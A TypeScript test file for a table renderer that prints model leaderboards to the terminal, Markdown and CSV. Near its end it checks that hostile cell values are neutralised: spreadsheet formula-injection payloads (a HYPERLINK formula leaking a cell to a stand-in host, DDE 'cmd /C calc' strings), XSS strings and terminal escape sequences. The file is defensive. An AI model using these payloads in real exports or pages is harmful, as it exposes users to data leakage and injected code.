import { describe, expect, it } from 'vitest';
import stringWidth from 'string-width';
import { csvField, csvTable, layoutTable, markdownTable, renderTable, type Cell, type TableColumn } from '../../source/render/table.js';
import { columnsOf, expectColourStripsToPlain, expectFits, WIDTHS } from './expect-lines.js';

const columns: TableColumn[] = [
  { title: 'Model', flex: true },
  { title: 'Type' },
  { title: 'Params', numeric: true },
  { title: 'Score', sort: 'desc' },
];
const LONG = 'huggingface/zephyr-7b-beta-with-a-rather-long-repository-name';
const rows: Cell[][] = [
  ['Qwen/通义千问-7B', 'pretrained', 7.72, 59.1],
  ['🤗 ' + LONG, '🟢 pretrained', 7, 52.15],
  ['mistralai/Mistral-7B-v0.1', 'pretrained', 7.24, 60.97],
  ['x|y', null, null, 1234567],
];

/** Display column where `needle` starts in `line`. */
function columnOfText(line: string, needle: string): number {
  const at = line.indexOf(needle);
  expect(at, `${needle} in ${line}`).toBeGreaterThanOrEqual(0);
  return stringWidth(line.slice(0, at));
}

describe('renderTable', () => {
  for (const width of WIDTHS) {
    it(`fits ${width} columns with every line the same display width`, () => {
      const lines = renderTable(columns, rows, { width, color: false });
      expectFits(lines, width);
      const widths = new Set(lines.map(columnsOf));
      expect(widths.size).toBe(1);
      expect(lines[0]).toContain('Model');
      expect(lines.join('\n')).toContain('Qwen/通义千问-7B');
      expect(lines.join('\n')).toContain('mistralai/');
    });

    it(`at ${width} columns, colour strips back to the plain table`, () => {
      expectColourStripsToPlain(renderTable(columns, rows, { width, color: true }), renderTable(columns, rows, { width, color: false }));
    });
  }

  it('aligns the columns after emoji and CJK ids', () => {
    const lines = renderTable(columns, rows, { width: 120, color: false });
    // The Type column starts at the same display column on every row.
    const starts = [
      columnOfText(lines[0]!, 'Type'),
      columnOfText(lines[2]!, 'pretrained'),
      columnOfText(lines[3]!, '🟢 pretrained'),
      columnOfText(lines[4]!, 'pretrained'),
    ];
    expect(new Set(starts).size).toBe(1);
    // The id column is as wide as the longest id: "🤗 " (3) + LONG.
    expect(starts[0]).toBe(3 + LONG.length + 2);
    // Numbers right-aligned: the scores end where the header "Score ▼" ends.
    const end = columnOfText(lines[0]!, 'Score ▼') + stringWidth('Score ▼');
    expect(columnOfText(lines[2]!, '59.10') + 5).toBe(end);
    expect(columnOfText(lines[5]!, '1,234,567') + 9).toBe(end);
  });

  it('truncates the flexible id column with … to fit', () => {
    const lines = renderTable(columns, rows, { width: 80, color: false });
    const text = lines.join('\n');
    expect(text).not.toContain(LONG);
    expect(text).toMatch(/🤗 huggingface\/zephyr[^\s]*…/);
    // Other columns are whole.
    expect(text).toContain('🟢 pretrained');
    expect(text).toContain('1,234,567');
  });

  it('leaves out columns from the right when the id cannot shrink further, and says so', () => {
    const layout = layoutTable(columns, rows, { width: 40 });
    expect(layout.hidden).toEqual([3]);
    const lines = renderTable(columns, rows, { width: 40, color: false });
    expect(lines[0]).not.toContain('Score');
    expect(lines[lines.length - 1]).toContain('too narrow for: Score');
  });

  it('draws sort markers, unicode and ASCII', () => {
    expect(renderTable(columns, rows, { width: 120, color: false })[0]).toContain('Score ▼');
    const asc = renderTable([{ title: 'Name', sort: 'asc' }], [['a']], { width: 40, color: false, unicode: false });
    expect(asc[0]!.trimEnd()).toBe('Name ^');
    expect(asc[1]!.trimEnd()).toBe('------');
  });

  it('marks the cursor row with a gutter (and inverse video with colour)', () => {
    const plain = renderTable(columns, rows, { width: 80, color: false, cursor: 2 });
    expect(plain[4]!.startsWith('› mistralai/')).toBe(true);
    expect(plain[2]!.startsWith('  Qwen/')).toBe(true);
    const coloured = renderTable(columns, rows, { width: 80, color: true, cursor: 2 });
    expect(coloured[4]).toContain('\u001b[7m');
  });

  it('sanitises cells: no control sequences from the data reach the terminal', () => {
    const lines = renderTable([{ title: 'Model' }], [['evil\u001b]0;title\u0007/model\u001b[2J']], { width: 40, color: false });
    expectFits(lines, 40);
    expect(lines[2]!.trimEnd()).toBe('evil/model');
  });

  it('keeps a precomputed layout for a window of rows', () => {
    const layout = layoutTable(columns, rows, { width: 80 });
    const window = renderTable(columns, rows.slice(2, 3), { width: 80, color: false, layout });
    const full = renderTable(columns, rows, { width: 80, color: false });
    expect(window[2]).toBe(full[4]);
  });
});

describe('markdownTable', () => {
  it('escapes pipes, right-aligns numbers and never truncates', () => {
    const lines = markdownTable(columns, rows);
    expect(lines[0]).toBe('| Model | Type | Params | Score |');
    expect(lines[1]).toBe('| --- | --- | ---: | ---: |');
    expect(lines[2]).toBe('| Qwen/通义千问-7B | pretrained | 7.72 | 59.10 |');
    expect(lines[3]).toContain(LONG);
    expect(lines[5]).toBe('| x\\|y |  |  | 1,234,567 |');
  });
  it('accepts plain column titles', () => {
    expect(markdownTable(['a|b', 'n'], [['x', 1]])).toEqual(['| a\\|b | n |', '| --- | ---: |', '| x | 1 |']);
  });
});

describe('csvTable', () => {
  it('quotes by RFC 4180 and keeps numbers raw', () => {
    const lines = csvTable(columns, [
      ['org/model, "quoted"', 'chat', 7.24, 1234567],
      ['plain', null, null, 60.97],
    ]);
    expect(lines).toEqual(['Model,Type,Params,Score', '"org/model, ""quoted""",chat,7.24,1234567', 'plain,,,60.97']);
  });
  it('quotes fields with edge spaces and strips control characters', () => {
    expect(csvField(' padded')).toBe('" padded"');
    expect(csvField('line\nbreak')).toBe('line break');
    expect(csvField('通义千问')).toBe('通义千问');
  });
});

// Issue 7 item 12: hostile model ids and values in files meant for spreadsheets and GitHub.
const HOSTILE = [
  '=HYPERLINK("http://e.vil/?"&A1,"click")',
  '+cmd|\' /C calc\'!A0',
  '-2+3',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  ' =1+1',
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  '[x](javascript:alert(1))',
  '![x](https://e.vil/t.png)',
  'a|b',
];

describe('csvField: formula injection (OWASP)', () => {
  it('neutralises text cells starting with = + - @, a tab or a carriage return: a quote in front, quoted', () => {
    expect(csvField('=1+1')).toBe('"\'=1+1"');
    expect(csvField('+1')).toBe('"\'+1"');
    expect(csvField('-2+3')).toBe('"\'-2+3"');
    expect(csvField('@SUM(A1)')).toBe('"\'@SUM(A1)"');
    expect(csvField('\t=1+1')).toBe('"\' =1+1"'); // the tab is a space once sanitised: still quoted
    expect(csvField('\r=1')).toBe('"\' =1"');
    expect(csvField(' =1+1')).toBe('"\' =1+1"');
    expect(csvField('=HYPERLINK("http://e.vil","x")')).toBe('"\'=HYPERLINK(""http://e.vil"",""x"")"');
    // an escape sequence in front does not hide one
    expect(csvField('\u001b[0m=1+1')).toBe('"\'=1+1"');
  });
  it('decides on the cell\'s type: numbers stay numbers, however negative', () => {
    expect(csvField(-1.5)).toBe('-1.5');
    expect(csvField(-0)).toBe('0');
    expect(csvField('-1.5')).toBe('"\'-1.5"'); // text that looks like a number is still text
    expect(csvField('a-b')).toBe('a-b');
    expect(csvField('e=mc2')).toBe('e=mc2');
  });
  it('writes cells as they are with raw (print --csv-raw)', () => {
    expect(csvField('=1+1', { raw: true })).toBe('=1+1');
    expect(csvField('-2+3', { raw: true })).toBe('-2+3');
    expect(csvTable(['repo', 'score'], [['=1+1', -1.5]], { raw: true })).toEqual(['repo,score', '=1+1,-1.5']);
    expect(csvTable(['repo', 'score'], [['=1+1', -1.5]])).toEqual(['repo,score', '"\'=1+1",-1.5']);
  });
});

describe('markdownTable: hostile model ids render as their literal text', () => {
  it('escapes HTML, links, images and pipes in cells', () => {
    const lines = markdownTable(['Model', 'Score'], HOSTILE.map((id) => [id, -1.5]));
    const body = lines.slice(2).join('\n');
    // no raw HTML, and no "[" or "]" that is not escaped (a link or an image needs both)
    expect(body).not.toMatch(/<img|<script|(?<!\\)\[|(?<!\\)\]/);
    expect(lines[2 + HOSTILE.indexOf('<img src=x onerror=alert(1)>')]).toBe('| &lt;img src=x onerror=alert(1)&gt; | -1.50 |');
    expect(lines[2 + HOSTILE.indexOf('<script>alert(1)</script>')]).toBe('| &lt;script&gt;alert(1)&lt;/script&gt; | -1.50 |');
    expect(lines[2 + HOSTILE.indexOf('[x](javascript:alert(1))')]).toBe('| \\[x\\](javascript:alert(1)) | -1.50 |');
    expect(lines[2 + HOSTILE.indexOf('![x](https://e.vil/t.png)')]).toBe('| \\!\\[x\\](https://e.vil/t.png) | -1.50 |');
    expect(lines[2 + HOSTILE.indexOf('a|b')]).toBe('| a\\|b | -1.50 |');
    // every line still has exactly the table's two cells: no pipe got through unescaped
    for (const line of lines) expect(line.replace(/\\\|/g, '').split('|')).toHaveLength(4);
  });
});

describe('renderTable with a 100,000-character cell (issue 7 item 10)', () => {
  it('lays out and draws it in well under a second, cut to its column', () => {
    const huge: Cell[][] = [
      [`acme/${'模型'.repeat(50_000)}`, 'chat', 7, 50],
      ['acme/short', 'pretrained', 7, 51],
    ];
    const start = performance.now();
    const lines = renderTable(columns, huge, { width: 80, color: false });
    expect(performance.now() - start).toBeLessThan(1000);
    expectFits(lines, 80);
    expect(lines.every((line) => stringWidth(line) === stringWidth(lines[0]!))).toBe(true);
    expect(lines.find((line) => line.includes('acme/模'))).toMatch(/acme\/(模型)+模?… +chat/);
  });
});
